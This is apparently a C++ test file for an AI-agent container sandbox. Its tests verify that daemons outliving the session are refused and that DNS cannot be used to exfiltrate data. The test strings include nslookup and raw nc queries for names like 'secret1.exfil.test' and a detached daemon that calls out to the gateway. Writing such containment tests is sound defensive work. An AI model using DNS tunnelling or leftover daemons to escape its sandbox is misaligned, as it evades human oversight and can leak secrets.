  // A daemon (double fork + setsid) that tries once its parent is gone. In the control it
  // gets through while the container lives; under acp contain it is refused, and nothing of
  // it outlives the session.
  auto dc = in_control(client("--daemon=/tmp/d tcp $GW " + port) + "; sleep 2; cat /tmp/d");
  EXPECT_EQ(value_of(dc.out, "result"), "OK") << dc.out;
  EXPECT_EQ(responder_.accepted(), 2u);
  auto dw = in_wall(client("--daemon=/tmp/d tcp $GW " + port) + "; sleep 2; cat /tmp/d");
  EXPECT_EQ(value_of(dw.out, "result"), "ECONNREFUSED") << dw.out;
  auto dl = in_wall(client("--daemon=/tmp/d tcp $GW " + port));  // leaves it behind
  EXPECT_NE(value_of(dl.out, "daemon"), "") << dl.out;
  std::this_thread::sleep_for(1500ms);
  EXPECT_EQ(responder_.accepted(), 2u);
  expect_nothing_left();
}

// ---- Name resolution: DNS is an exfiltration channel ----

// A resolver that answers NXDOMAIN over UDP and TCP on addr:53 and appends "Q <tag> <name>" to
// the log for every query that reaches it.
constexpr const char* kLoggingResolver =
    "import socket, struct, sys, threading\n"
    "addr, tag, log = sys.argv[1], sys.argv[2], sys.argv[3]\n"
    "def name(d):\n"
    "    i, labels = 12, []\n"
    "    while i < len(d) and d[i]:\n"
    "        labels.append(d[i + 1:i + 1 + d[i]].decode('ascii', 'replace'))\n"
    "        i += 1 + d[i]\n"
    "    with open(log, 'a') as f: f.write('Q %s %s\\n' % (tag, '.'.join(labels).lower()))\n"
    "    return d[:2] + b'\\x81\\x83' + d[4:6] + b'\\0\\0\\0\\0\\0\\0' + d[12:i + 5]\n"
    "def tcp(t):\n"
    "    while True:\n"
    "        c, _ = t.accept()\n"
    "        c.settimeout(2)\n"
    "        try:\n"
    "            n = struct.unpack('>H', c.recv(2))[0]\n"
    "            r = name(c.recv(n))\n"
    "            c.sendall(struct.pack('>H', len(r)) + r)\n"
    "        except Exception: pass\n"
    "        c.close()\n"
    "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "u.bind((addr, 53))\n"
    "t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
    "t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
    "t.bind((addr, 53))\n"
    "t.listen(8)\n"
    "threading.Thread(target=tcp, args=(t,), daemon=True).start()\n"
    "open(log, 'a').write('READY %s\\n' % tag)\n"
    "while True:\n"
    "    d, src = u.recvfrom(2048)\n"
    "    u.sendto(name(d), src)\n";

// An A query for `name` as printf(1) escapes, with DNS-over-TCP's length prefix when asked.
std::string dns_query_escaped(const std::string& name, bool tcp) {
  std::string q = {0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
  size_t start = 0;
  while (start <= name.size()) {
    size_t dot = name.find('.', start);
    if (dot == std::string::npos) dot = name.size();
    q.push_back(static_cast<char>(dot - start));
    q += name.substr(start, dot - start);
    start = dot + 1;
  }
  q += std::string{0, 0, 1, 0, 1};
  if (tcp) q = std::string{0, static_cast<char>(q.size())} + q;
  std::string out;
  char buf[8];
  for (unsigned char c : q) {
    std::snprintf(buf, sizeof buf, "\\%03o", c);
    out += buf;
  }
  return out;
}

// Every way the agent can ask a name: its own resolver (glibc, through docker's embedded DNS
// at 127.0.0.11 on a user-defined network), and raw queries over UDP and TCP to the embedded
// DNS, to the gateway (the host) and to a resolver behind the host (RESOLVER).
std::string dns_attempts(const std::string& resolver) {
  std::string s = "cat /etc/resolv.conf | sed 's/^/RESOLV:/'; ";
  s += "getent hosts secret1.exfil.test; echo getent=$?; ";
  int n = 2;
  for (const std::string& server : {std::string("127.0.0.11"), std::string("$GW"), resolver}) {
    s += "nslookup secret" + std::to_string(n++) + ".exfil.test " + server + " >/dev/null 2>&1; ";
    s += "printf '" + dns_query_escaped("secret" + std::to_string(n++) + ".exfil.test", true) +
         "' | timeout 3 nc " + server + " 53 >/dev/null 2>&1; ";
  }
  return s + "echo DONE";
}

// Measured on docker 20.10 (issue 16): with --dns=0.0.0.0 nothing left either; the container's
// DNS now points at the session's responder on the gateway (docs/backends.md, "Name
// resolution"). The agent's own resolver (glibc, through docker's embedded DNS at 127.0.0.11)
// gets a synthetic address for a name the policy may allow and NXDOMAIN for the others, and no
// query of the agent (glibc's; raw ones over UDP and TCP to 127.0.0.11, to the gateway and to
// a resolver behind the host) reaches a resolver on the host's loopback (where a dockerd that
// forwards from the host's namespace would go) nor one behind the host. The control (the same
// image on a plain internal network whose dockerd forwards to that resolver) shows the
// resolvers hear what reaches them.
TEST_F(DockerContain, NoDnsQueryOfTheAgentReachesAResolver) {
  auto ns = acp::vmtest::NetnsHost::create();
  ASSERT_TRUE(ns.ok()) << ns.error().message();
  ASSERT_TRUE(acp::vmtest::sh("ip netns exec " + (*ns)->name() + " ip route add default via " +
                              (*ns)->host_addr4()));
  const std::string log = dir_ + "/resolver.log";
  resolver_ns_ = Proc::start({"ip", "netns", "exec", (*ns)->name(), "/usr/bin/python3", "-c",
                              kLoggingResolver, (*ns)->addr4(), "ns", log},
                             dir_ + "/resolver-ns.out");
  resolver_lo_ = Proc::start({"/usr/bin/python3", "-c", kLoggingResolver, "127.0.0.1", "lo", log},
                             dir_ + "/resolver-lo.out");
  for (int i = 0; i < 100 && (slurp(log).find("READY ns") == std::string::npos ||
                              slurp(log).find("READY lo") == std::string::npos);
       ++i)
    std::this_thread::sleep_for(50ms);
  ASSERT_NE(slurp(log).find("READY ns"), std::string::npos) << slurp(dir_ + "/resolver-ns.out");
  ASSERT_NE(slurp(log).find("READY lo"), std::string::npos) << slurp(dir_ + "/resolver-lo.out");

  policy_path_ = policy(
      "default: deny\nrules:\n  - match: { kind: http, host: \"allowed.exfil.test\" }\n"
      "    action: allow\n");
  auto w = in_wall(
      std::string("getent ahostsv4 allowed.exfil.test | head -n 1 | sed 's/^/ALLOWED=/'; ") +
      "echo TCPGW=$(printf '" + dns_query_escaped("allowed.exfil.test", true) +
      "' | timeout 3 nc $GW 53 | wc -c); " + dns_attempts((*ns)->addr4()));
  EXPECT_NE(w.out.find("DONE"), std::string::npos) << w.out;
  EXPECT_EQ(value_of(w.out, "ALLOWED").rfind("198.1", 0), 0u) << w.out;  // 198.18.0.0/15
  EXPECT_EQ(value_of(w.out, "getent"), "2") << w.out;                    // NXDOMAIN
  EXPECT_NE(value_of(w.out, "TCPGW"), "0") << w.out;                     // answered over TCP too
  std::string seen = slurp(log);
  EXPECT_EQ(seen.find("Q "), std::string::npos) << seen << "\nagent:\n" << w.out;
  EXPECT_EQ(seen.find("exfil"), std::string::npos) << seen;

  // Control: docker's own DNS settings forward the agent's lookups; the resolver hears them.
  ensure_control_network(false);
  auto c =
      run({"/usr/bin/docker", "-H", daemon_->host(), "run", "--rm", "--network=" + ctl_net_,
           "--dns=" + (*ns)->addr4(), "--env=HTTP_PROXY=http://" + ctl_gw_ + ":1", kImage,
           "/bin/sh", "-c", std::string(kGw) + "getent hosts control.exfil.test; echo getent=$?"});
  EXPECT_NE(slurp(log).find("Q ns control.exfil.test"), std::string::npos)
      << slurp(log) << "\ncontrol:\n"
      << c.out;
  expect_nothing_left();
}

// The session's responder answers only its own network: a container on another network that
// reaches the gateway (the control network has no firewall) gets no reply, while the session's
// own agent is answered.
TEST_F(DockerContain, TheSessionsDnsAnswersOnlyItsOwnNetwork) {
  policy_path_ = policy("default: deny\n");
  ::chmod((dir_ + "/ws").c_str(), 0777);
  const std::string hold = dir_ + "/ws/hold";
  std::ofstream(hold) << "";
  Proc p = Proc::start(contain(
      {"/bin/sh", "-c",
       "echo $HTTP_PROXY > /workspace/proxy; while [ -e /workspace/hold ]; do sleep 0.1; done; "
       "nslookup own.exfil.test $(cat /workspace/gw) 2>&1 | sed 's/^/OWN:/'"},
      {"--workspace=" + dir_ + "/ws", "--writable"}));
  for (int i = 0; i < 200 && slurp(dir_ + "/ws/proxy").empty(); ++i)
    std::this_thread::sleep_for(50ms);
  std::string gw = slurp(dir_ + "/ws/proxy");
  ASSERT_EQ(gw.rfind("http://", 0), 0u) << "the container did not start: " << gw;
  gw = gw.substr(7, gw.rfind(':') - 7);
  std::ofstream(dir_ + "/ws/gw") << gw;
  auto c = in_control("nslookup foreign.exfil.test " + gw + " 2>&1 | sed 's/^/FOREIGN:/'");
  fs::remove(hold);
  p.finish();
  EXPECT_EQ(c.out.find("NXDOMAIN"), std::string::npos) << c.out;
  EXPECT_EQ(c.out.find("198.1"), std::string::npos) << c.out;
  EXPECT_NE(c.out.find("FOREIGN:"), std::string::npos) << c.out;
  EXPECT_NE(p.out.find("NXDOMAIN"), std::string::npos) << p.out;
  expect_nothing_left();
}

}  // namespace
